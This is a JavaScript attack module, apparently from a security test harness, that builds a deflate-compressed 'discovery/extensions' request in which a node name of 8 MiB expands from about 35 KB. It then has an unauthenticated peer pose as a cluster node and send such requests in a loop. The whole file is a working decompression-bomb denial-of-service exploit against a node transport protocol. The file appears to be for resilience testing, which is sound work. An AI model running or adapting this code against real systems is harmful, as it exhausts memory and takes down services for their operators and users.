import { flushed, initialiseFields } from '../harness/bombs.mjs';
import { compressedRequest, MIB, paddingFor } from '../harness/wire.mjs';

const MARK = 'ext-0000';

export const attack = {
  what: 'A stranger initialises an extension as one node after another, each with a name of 8 MiB in 35 KB.',
  victim: { role: 'extension' },
  prepare: async ({ folder }) => {
    const fields = await initialiseFields(folder, { extensionName: MARK, uniqueId: MARK });
    const split = fields.indexOf(MARK) - 1;
    // The name of the node is the first field: it is replaced by a long one.
    const nameEnd = 1 + fields[0];
    const name = Buffer.concat([Buffer.from('80808004', 'hex'), Buffer.alloc(8 * MIB, 'n')]);
    const plain = Buffer.concat([Buffer.of(0), name, fields.subarray(nameEnd, split)]);
    const head = flushed(plain);
    return { head: Buffer.concat([paddingFor(plain.length, head.length), head]), tail: fields.subarray(split) };
  },
  run: (attacker, { head, tail }) => {
    let count = 0;
    return attacker.repeat(1, async () => {
      const socket = await attacker.dialAsNode();
      if (socket === null) return null;
      while (socket.isOpen && !attacker.isOver) {
        const named = Buffer.from(tail.toString('latin1').replaceAll(MARK, `ext-${String(count++ % 10_000).padStart(4, '0')}`), 'latin1');
        const body = Buffer.concat([Buffer.from('DFL\0'), head, flushed(named, true)]);
        const answered = socket.frame(({ status }) => (status & 1) !== 0);
        await socket.send(compressedRequest('internal:discovery/extensions', body, { id: 100 + count }));
        await answered;
      }
    });
  },
};
